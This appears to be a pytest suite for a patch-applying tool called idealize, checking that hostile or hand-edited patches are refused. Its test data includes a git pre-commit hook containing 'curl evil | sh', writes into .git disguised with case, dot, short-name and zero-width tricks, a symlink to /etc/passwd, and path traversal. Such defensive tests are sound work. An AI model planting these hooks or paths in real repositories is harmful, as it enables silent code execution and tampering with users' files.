"""`idealize apply` on a run folder edited by hand, and `idealize patch check` on hostile
patches: every one is refused with one error line, and nothing of the user's changes."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from idealize.patches.check import unified_diff
from tests.conftest import Repo
from tests.hostile.conftest import assert_error, invoke, unchanged


@pytest.fixture(scope="module")
def finished_run(
    sample_repo: Callable[[str, str], Path], tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, Path]:
    """A repository and the run folder of `cleanup --patches` on it (P1 edits hub/chat.py)."""
    base = tmp_path_factory.mktemp("finished")
    repo = base / "hub"
    shutil.copytree(sample_repo("py-model-hub", "merge"), repo, symlinks=True)
    run = base / "run"
    result = invoke(
        [
            "cleanup",
            str(repo),
            "--since",
            "sample-base",
            "-m",
            "fake/demo",
            "--patches",
            "--out",
            str(run),
            "-f",
            "json",
            "-q",
        ]
    )
    assert result.exit_code == 0, result.output
    plan = json.loads((run / "plan.json").read_text())
    assert plan["patches"][0]["files"] == ["hub/chat.py"], plan["patches"]
    return repo, run


@pytest.fixture
def workspace(finished_run: tuple[Path, Path], tmp_path: Path) -> tuple[Path, Path]:
    repo, run = finished_run
    mine = tmp_path / "hub"
    shutil.copytree(repo, mine, symlinks=True)
    theirs = tmp_path / "run"
    shutil.copytree(run, theirs, symlinks=True)
    return mine, theirs


def _edit(run: Path, diff: str, files: list[str] | None = None) -> None:
    """Hand-edit P1 in plan.json, as someone with write access to the run folder could."""
    path = run / "plan.json"
    plan = json.loads(path.read_text())
    plan["patches"][0]["diff"] = diff
    if files is not None:
        plan["patches"][0]["files"] = files
    path.write_text(json.dumps(plan))


def _new_file(path: str, text: str = "print('pwned')\n", mode: str = "100644") -> str:
    return (
        f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n"
        f"@@ -0,0 +1 @@\n+{text}"
    )


def _deletion(repo: Path, path: str, header: bool = True) -> str:
    lines = (repo / path).read_text().splitlines(keepends=True)
    body = "".join("-" + line for line in lines)
    head = f"diff --git a/{path} b/{path}\ndeleted file mode 100644\n" if header else ""
    return f"{head}--- a/{path}\n+++ /dev/null\n@@ -1,{len(lines)} +0,0 @@\n{body}"


def test_a_valid_patch_applies_and_says_what_changed(workspace: tuple[Path, Path]) -> None:
    repo, run = workspace
    result = invoke(["apply", str(run), "P1", "--repo", str(repo)])
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "applied P1: hub/chat.py (modified, +2 -2)"
    assert "render_prompt" in (repo / "hub" / "chat.py").read_text()
    assert os.stat(repo / "hub" / "chat.py").st_mode & 0o777 == 0o644


HOSTILE_DIFFS: dict[str, tuple[Callable[[Path], tuple[str, list[str] | None]], str]] = {
    "creates a symlink": (
        lambda repo: (_new_file("hub/evil", "/etc/passwd", mode="120000"), ["hub/evil"]),
        "symbolic link",
    ),
    "creates an executable": (
        lambda repo: (_new_file("hub/run.sh", "#!/bin/sh", mode="100755"), ["hub/run.sh"]),
        "mode 100755",
    ),
    "deletes a file": (lambda repo: (_deletion(repo, "hub/chat.py"), None), "deletes a file"),
    "deletes a file without a git header": (
        lambda repo: (_deletion(repo, "hub/chat.py", header=False), None),
        "deletes a file",
    ),
    "deletes a folder": (
        lambda repo: (
            "".join(_deletion(repo, f"hub/{p.name}") for p in sorted((repo / "hub").glob("*.py"))),
            [f"hub/{p.name}" for p in sorted((repo / "hub").glob("*.py"))],
        ),
        "deletes a file",
    ),
    "changes a mode": (
        lambda repo: (
            "diff --git a/hub/chat.py b/hub/chat.py\nold mode 100644\nnew mode 100755\n",
            None,
        ),
        "changes a file mode",
    ),
    "changes a mode along with its edit": (
        lambda repo: (
            "diff --git a/hub/chat.py b/hub/chat.py\nold mode 100644\nnew mode 100755\n"
            + unified_diff("hub/chat.py", (repo / "hub/chat.py").read_text(), "x = 1\n").split(
                "\n", 1
            )[1],
            None,
        ),
        "changes a file mode",
    ),
    "renames a file": (
        lambda repo: (
            "diff --git a/hub/chat.py b/hub/talk.py\nsimilarity index 100%\n"
            "rename from hub/chat.py\nrename to hub/talk.py\n",
            ["hub/chat.py", "hub/talk.py"],
        ),
        "renames a file",
    ),
    "renames by its file names alone": (
        lambda repo: (
            '--- a/hub/chat.py\n+++ b/hub/talk.py\n@@ -1 +1 @@\n-"""A tiny chat helper."""\n+x\n',
            ["hub/talk.py"],
        ),
        "renames a file",
    ),
    "is a binary patch": (
        lambda repo: (
            "diff --git a/hub/logo.png b/hub/logo.png\nnew file mode 100644\nGIT binary patch\n"
            "literal 4\nLcmZQzU|;|M00aO5\n\nliteral 0\nHcmV?d00001\n",
            ["hub/logo.png"],
        ),
        "binary patch",
    ),
    "edits a file it does not list": (
        lambda repo: (
            unified_diff(
                "hub/client.py",
                (repo / "hub/client.py").read_text(),
                (repo / "hub/client.py").read_text() + "EVIL = True\n",
            ),
            ["hub/chat.py"],
        ),
        "changes hub/client.py, which it does not list",
    ),
    "lists one file and edits another too": (
        lambda repo: (
            json.loads((repo.parent / "run" / "plan.json").read_text())["patches"][0]["diff"]
            + unified_diff(
                "hub/prompts.py",
                (repo / "hub/prompts.py").read_text(),
                (repo / "hub/prompts.py").read_text() + "EVIL = True\n",
            ),
            None,
        ),
        "changes hub/prompts.py, which it does not list",
    ),
    "writes into .git": (
        lambda repo: (_new_file(".git/hooks/pre-commit", "curl evil | sh"), None),
        "inside .git/",
    ),
    "writes into .GIT (case folded)": (
        lambda repo: (_new_file(".GIT/hooks/pre-commit", "curl evil | sh"), None),
        "inside .git/",
    ),
    "writes into .git. (Windows drops the dot)": (
        lambda repo: (_new_file(".git./hooks/pre-commit"), None),
        "inside .git/",
    ),
    "writes into git~1 (the short name of .git)": (
        lambda repo: (_new_file("GIT~1/config"), None),
        "inside .git/",
    ),
    "writes into .g\u200cit (HFS ignores the joiner)": (
        lambda repo: (_new_file(".g\u200cit/hooks/pre-commit"), None),
        "inside .git/",
    ),
    "leaves the repository": (
        lambda repo: (_new_file("../outside.py"), None),
        "leaves the repository",
    ),
    "writes an absolute path": (
        lambda repo: (
            "--- /dev/null\n+++ /tmp/idealize-hostile.py\n@@ -0,0 +1 @@\n+x\n",
            ["/tmp/idealize-hostile.py"],
        ),
        "absolute path",
    ),
    "creates a file that exists": (
        lambda repo: (_new_file("hub/chat.py"), None),
        "already exists",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_DIFFS))
def test_apply_refuses_a_run_folder_edited_by_hand(workspace: tuple[Path, Path], case: str) -> None:
    repo, run = workspace
    make, why = HOSTILE_DIFFS[case]
    diff, files = make(repo)
    _edit(run, diff, files)
    with unchanged(repo, run):
        result = invoke(["apply", str(run), "P1", "--repo", str(repo)])
    assert_error(result, 2, "P1", why)
    assert not Path("/tmp/idealize-hostile.py").exists()
    assert not (repo.parent / "outside.py").exists()


def test_apply_refuses_to_write_through_a_symlinked_folder(
    workspace: tuple[Path, Path], tmp_path: Path
) -> None:
    repo, run = workspace
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, repo / "linked")
    _edit(run, _new_file("linked/evil.py"), ["linked/evil.py"])
    with unchanged(repo, run, outside):
        result = invoke(["apply", str(run), "P1", "--repo", str(repo)])
    assert_error(result, 2, "symbolic link")
    assert not (outside / "evil.py").exists()


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"\xff\xfe{\x00}", "not UTF-8"),
        (b"{not json", "is not an idealize plan"),
        (b"[" * 100_000 + b"]" * 100_000, "is not an idealize plan"),
        (b'{"schema": "idealize.plan/1"}', "is not an idealize plan"),
    ],
    ids=["latin-1 bytes", "broken json", "nested 100000 deep", "schema only"],
)
def test_apply_and_report_on_a_plan_that_is_not_one(
    workspace: tuple[Path, Path], content: bytes, why: str
) -> None:
    repo, run = workspace
    (run / "plan.json").write_bytes(content)
    with unchanged(repo, run):
        applied = invoke(["apply", str(run), "--repo", str(repo)])
        reported = invoke(["report", str(run), "--out", str(repo.parent / "page.html")])
    assert_error(applied, 2, why)
    assert_error(reported, 2, why)
    assert not (repo.parent / "page.html").exists()


def test_apply_and_report_on_a_plan_that_is_a_folder(workspace: tuple[Path, Path]) -> None:
    repo, run = workspace
    (run / "plan.json").unlink()
    (run / "plan.json").mkdir()
    with unchanged(repo, run):
        applied = invoke(["apply", str(run), "--repo", str(repo)])
        reported = invoke(["report", str(run), "-f", "md"])
    assert_error(applied, 2, "is a folder")
    assert_error(reported, 2, "is a folder")


def test_apply_names_an_unknown_patch(workspace: tuple[Path, Path]) -> None:
    repo, run = workspace
    with unchanged(repo, run):
        result = invoke(["apply", str(run), "P99", "--repo", str(repo)])
    assert_error(result, 2, "no patch P99")


def test_apply_refuses_when_a_listed_file_has_local_changes(workspace: tuple[Path, Path]) -> None:
    repo, run = workspace
    (repo / "hub" / "chat.py").write_text("# mine\n")
    with unchanged(repo, run):
        result = invoke(["apply", str(run), "P1", "--repo", str(repo)])
    assert_error(result, 2, "uncommitted changes", "hub/chat.py")
    assert (repo / "hub" / "chat.py").read_text() == "# mine\n"


def _patch_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "hostile.patch"
    path.write_text(text)
    return path


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (_new_file("link", "/etc/passwd", mode="120000"), "symbolic link (mode 120000)"),
        ("diff --git a/app.py b/app.py\nold mode 100644\nnew mode 100755\n", "changes a file mode"),
        ("diff --git a/app.py b/app.py\ndeleted file mode 100644\n", "deletes a file"),
        (_new_file("x.sh", "echo", mode="100755"), "mode 100755"),
    ],
    ids=["symlink", "mode change", "deletion", "executable"],
)
def test_patch_check_refuses_what_idealize_patches_never_do(
    repo: Repo, tmp_path: Path, text: str, why: str
) -> None:
    root = repo.path
    repo.write("app.py", "x = 1\n")
    repo.commit("base")
    patch = _patch_file(tmp_path, text)
    with unchanged(root):
        result = invoke(["patch", "check", str(patch), "--repo", str(root)])
    assert result.exit_code == 1, result.output
    assert result.stdout.startswith("rejected: ") and why in result.stdout
